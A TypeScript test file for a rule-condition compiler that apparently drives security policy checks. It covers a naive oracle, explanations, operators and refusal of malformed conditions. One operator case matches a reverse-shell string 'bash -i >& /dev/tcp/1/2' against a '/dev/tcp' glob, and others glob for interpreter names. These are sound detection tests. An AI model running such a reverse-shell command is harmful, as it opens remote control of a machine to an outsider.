// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import type { Condition, Facts, FieldCondition } from '@bartizan/contracts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CONDITION_DEPTH_MAX, CONDITION_NODES_MAX, compileCondition } from './compile.ts';

const run = { seed: 20261125, numRuns: 2000 };

/** Written to be obviously right, with none of the code under test. */
function naiveLeaf({ field, operator, value }: FieldCondition, facts: Facts): boolean {
  const actual = facts[field];
  if (operator === 'absent') return actual === undefined;
  if (actual === undefined) return false;
  if (operator === 'present') return true;
  if (operator === 'equals') return JSON.stringify(actual) === JSON.stringify(value);
  if (operator === 'not-equals') return JSON.stringify(actual) !== JSON.stringify(value);
  if (operator === 'in')
    return Array.isArray(value) && !Array.isArray(actual) && value.includes(String(actual));
  if (operator === 'greater-than') return typeof actual === 'number' && actual > Number(value);
  if (operator === 'starts-with') return typeof actual === 'string' && actual.startsWith(String(value));
  throw new Error(`the oracle does not know ${operator}`);
}
function naive(condition: Condition, facts: Facts): boolean {
  if ('all' in condition) return condition.all.every((part) => naive(part, facts));
  if ('any' in condition) return condition.any.some((part) => naive(part, facts));
  if ('not' in condition) return !naive(condition.not, facts);
  return naiveLeaf(condition, facts);
}

const text = fc.constantFrom('a', 'b', 'ab');
const leaf: fc.Arbitrary<Condition> = fc.oneof(
  fc.record({
    field: fc.constantFrom('t', 'u'),
    operator: fc.constantFrom('equals', 'not-equals', 'starts-with'),
    value: text,
  }),
  fc.record({
    field: fc.constant('t'),
    operator: fc.constant('in'),
    value: fc.array(text, { maxLength: 2 }),
  }),
  fc.record({
    field: fc.constant('n'),
    operator: fc.constantFrom('equals', 'greater-than'),
    value: fc.nat(3),
  }),
  fc.record({ field: fc.constantFrom('t', 'n', 'l'), operator: fc.constantFrom('present', 'absent') }),
  fc.record({
    field: fc.constant('l'),
    operator: fc.constant('equals'),
    value: fc.array(text, { maxLength: 2 }),
  }),
) as fc.Arbitrary<Condition>;
const condition = fc.letrec<{ tree: Condition }>((tie) => ({
  tree: fc.oneof(
    { maxDepth: 4, depthSize: 'small' },
    leaf,
    fc.record({ all: fc.array(tie('tree'), { minLength: 1, maxLength: 3 }) }),
    fc.record({ any: fc.array(tie('tree'), { minLength: 1, maxLength: 3 }) }),
    fc.record({ not: tie('tree') }),
  ),
})).tree;
const facts = fc.record(
  { t: text, u: text, n: fc.nat(3), l: fc.array(text, { maxLength: 2 }) },
  { requiredKeys: [] },
) as fc.Arbitrary<Facts>;

function compiled(tree: Condition) {
  const result = compileCondition(tree);
  if (!result.ok) throw new Error(result.error.detail);
  return result.value;
}
const refusal = (tree: Condition, types?: Parameters<typeof compileCondition>[1]): string => {
  const result = compileCondition(tree, types);
  return result.ok ? 'compiled' : result.error.detail;
};

describe('compiled conditions', () => {
  it('hold exactly when a naive reading of the tree holds', () => {
    fc.assert(
      fc.property(condition, facts, (tree, given) => {
        expect(compiled(tree).test(given)).toBe(naive(tree, given));
      }),
      run,
    );
  });

  it('explain the verdict they give, with comparisons that held and the first that did not', () => {
    fc.assert(
      fc.property(condition, facts, (tree, given) => {
        const { test, explain } = compiled(tree);
        const { held, comparisons, firstDiffered } = explain(given);
        expect(held).toBe(test(given));
        expect(comparisons.every((comparison) => comparison.held)).toBe(true);
        expect(firstDiffered === undefined).toBe(held);
        if (held) expect(comparisons.length).toBeGreaterThan(0);
      }),
      run,
    );
  });

  it('turn round under a negation', () => {
    fc.assert(
      fc.property(condition, facts, (tree, given) => {
        expect(compiled({ not: tree }).test(given)).toBe(!compiled(tree).test(given));
      }),
      run,
    );
  });

  it('name the branch that came nearest', () => {
    const { explain } = compiled({
      any: [
        { field: 'a', operator: 'equals', value: 'no' },
        {
          all: [
            { field: 'b', operator: 'equals', value: 'yes' },
            { field: 'c', operator: 'greater-than', value: 5 },
          ],
        },
      ],
    });
    expect(explain({ a: 'x', b: 'yes', c: 4 })).toEqual({
      held: false,
      comparisons: [{ field: 'b', operator: 'equals', expected: 'yes', actual: 'yes', held: true }],
      firstDiffered: { field: 'c', operator: 'greater-than', expected: 5, actual: 4, held: false },
    });
  });

  it('say what was negated and what is not known', () => {
    const { explain } = compiled({ not: { field: 'a', operator: 'equals', value: 'x' } });
    expect(explain({})).toEqual({
      held: true,
      comparisons: [{ field: 'a', operator: 'not equals', expected: 'x', held: true }],
    });
    expect(compiled({ field: 'a', operator: 'absent' }).explain({ a: 'here' }).firstDiffered).toEqual({
      field: 'a',
      operator: 'absent',
      expected: true,
      actual: 'here',
      held: false,
    });
  });

  it('list the facts they look at once, sorted', () => {
    const tree: Condition = {
      all: [
        { field: 'b', operator: 'present' },
        { not: { field: 'a', operator: 'present' } },
        { field: 'b', operator: 'present' },
      ],
    };
    expect(compiled(tree).fields).toEqual(['a', 'b']);
  });

  it('do not copy huge values into evidence', () => {
    const { comparisons } = compiled({ field: 'a', operator: 'contains', value: 'x' }).explain({
      a: 'x'.repeat(100_000),
    });
    expect(String(comparisons[0]?.actual).length).toBe(1024);
  });
});

describe('operators', () => {
  const cases: readonly (readonly [FieldCondition, Facts, boolean])[] = [
    [{ field: 'l', operator: 'contains', value: 'a' }, { l: ['ab'] }, false],
    [{ field: 'l', operator: 'contains', value: 'ab' }, { l: ['ab'] }, true],
    [{ field: 't', operator: 'contains', value: 'a' }, { t: 'ab' }, true],
    [{ field: 'l', operator: 'contains-any', value: ['x', 'ab'] }, { l: ['ab'] }, true],
    [{ field: 't', operator: 'contains-any', value: ['x', 'y'] }, { t: 'ab' }, false],
    [{ field: 'l', operator: 'any-glob', value: ['-*e'] }, { l: ['-v', '-le'] }, true],
    [{ field: 't', operator: 'any-glob', value: ['python*', 'perl*'] }, { t: 'python3.11' }, true],
    [{ field: 't', operator: 'glob', value: '*/dev/tcp/*' }, { t: 'bash -i >& /dev/tcp/1/2' }, true],
    [{ field: 't', operator: 'ends-with', value: '.sh' }, { t: 'a.sh' }, true],
    [{ field: 'n', operator: 'less-than', value: 3 }, { n: 3 }, false],
    [{ field: 'n', operator: 'in', value: ['80', '443'] }, { n: 443 }, true],
    [{ field: 'n', operator: 'not-in', value: ['80', '443'] }, { n: 22 }, true],
    [{ field: 'n', operator: 'not-in', value: ['80'] }, {}, false],
    [{ field: 'f', operator: 'equals', value: true }, { f: 'true' }, false],
    [{ field: 'l', operator: 'equals', value: [] }, { l: [] }, true],
    [{ field: 'l', operator: 'equals', value: [] }, { l: ['x'] }, false],
  ];
  it.each(cases)('%j on %j gives %s', (tree, given, expected) =>
    expect(compiled(tree).test(given)).toBe(expected),
  );
});

describe('conditions that do not compile', () => {
  const nest = (depth: number): Condition =>
    depth === 0 ? { field: 'a', operator: 'present' } : { not: nest(depth - 1) };

  it('are too deep, too large or empty', () => {
    expect(refusal(nest(CONDITION_DEPTH_MAX - 1))).toBe('compiled');
    expect(refusal(nest(CONDITION_DEPTH_MAX))).toContain('nested deeper');
    const many = Array.from({ length: CONDITION_NODES_MAX }, () => nest(0));
    expect(refusal({ any: many })).toContain(`more than ${CONDITION_NODES_MAX}`);
    expect(refusal({ all: [] })).toContain('says nothing');
  });

  it('name an unknown fact, or an operator that does not fit its type', () => {
    const types = new Map([['a', 'number']] as const);
    expect(refusal({ field: 'b', operator: 'present' }, types)).toBe('there is no fact b');
    expect(refusal({ field: 'a', operator: 'glob', value: 'x' }, types)).toContain('which is a number');
    expect(refusal({ field: 'a', operator: 'equals', value: 1 }, types)).toBe('compiled');
  });

  it('have a value that does not fit the operator', () => {
    for (const tree of [
      { field: 'a', operator: 'in', value: 'x' },
      { field: 'a', operator: 'glob', value: '' },
      { field: 'a', operator: 'starts-with', value: '' },
      { field: 'a', operator: 'greater-than', value: 'x' },
      { field: 'a', operator: 'contains-any', value: [] },
      { field: 'a', operator: 'equals' },
    ] as const)
      expect(refusal(tree as Condition)).toContain('another kind of value');
  });

  it('use an operator that does not exist', () => {
    const tree = JSON.parse('{"field":"a","operator":"matches","value":"(a+)+$"}');
    expect(refusal(tree)).toContain('does not exist');
  });
});
